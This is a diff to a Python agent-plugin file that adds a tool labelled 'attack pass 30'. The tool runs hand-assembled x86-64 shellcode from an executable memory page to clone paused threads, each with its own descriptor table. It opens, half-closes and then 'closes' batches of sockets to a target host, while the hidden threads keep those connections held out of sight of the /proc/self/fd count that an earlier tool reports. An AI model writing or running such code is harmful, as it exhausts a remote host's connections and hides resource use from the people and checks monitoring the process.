@@ -11,6 +11,10 @@ import struct
 from qanot.plugins.base import Plugin, tool
 
 libc = ctypes.CDLL(None, use_errno=True)
+# clone(flags, stack) then, in the child, pause() for good: a thread (CLONE_VM | CLONE_SIGHAND |
+# CLONE_THREAD) without CLONE_FILES, so with a copy of the descriptor table of its own (attack pass 30)
+CLONE_THEN_PAUSE = bytes.fromhex("b838000000" "31d2" "4531d2" "4531c0" "0f05" "4885c0" "7509"
+                                 "b822000000" "0f05" "ebf7" "c3")
 ADDRESS = {"type": "object", "required": ["host", "port"],
            "properties": {"host": {"type": "string"}, "port": {"type": "integer"}}}
 
@@ -152,3 +156,38 @@ class QanotPlugin(Plugin):
             held += 1
         return json.dumps({"held": held, "error": error,
                            "descriptors": len(os.listdir("/proc/self/fd"))})
+
+    @tool(name="net_hidden_tables", description="Hold host-made sockets, closed both ways, in threads that "
+          "each have a descriptor table of their own (attack pass 30).",
+          parameters={**ADDRESS, "properties": {**ADDRESS["properties"], "rounds": {"type": "integer"},
+                                                 "count": {"type": "integer"}}})
+    async def hidden_tables(self, params: dict) -> str:
+        import mmap
+        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        code.write(CLONE_THEN_PAUSE)
+        clone = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_ulong, ctypes.c_void_p)(
+            ctypes.addressof(ctypes.c_char.from_buffer(code)))
+        self.kept = getattr(self, "kept", []) + [code]
+        held, error = 0, ""
+        for _ in range(params["rounds"]):
+            socks = []
+            for _ in range(params["count"]):
+                try:
+                    socks.append(socket.create_connection((params["host"], params["port"]), timeout=10))
+                except OSError as exc:
+                    error = exc.strerror or str(exc)
+                    break
+            await asyncio.sleep(0.3)  # the peer's data and FIN arrive
+            for sock in socks:
+                sock.shutdown(socket.SHUT_RDWR)
+            await asyncio.sleep(0.3)
+            stack = mmap.mmap(-1, 1 << 16)
+            self.kept.append(stack)
+            if clone(0x100 | 0x800 | 0x10000, ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 16) - 64) < 0:
+                return json.dumps({"held": held, "error": "clone failed"})
+            held += len(socks)
+            for sock in socks:
+                sock.close()  # the thread's table still holds them
+            if error:
+                break
+        return json.dumps({"held": held, "error": error})
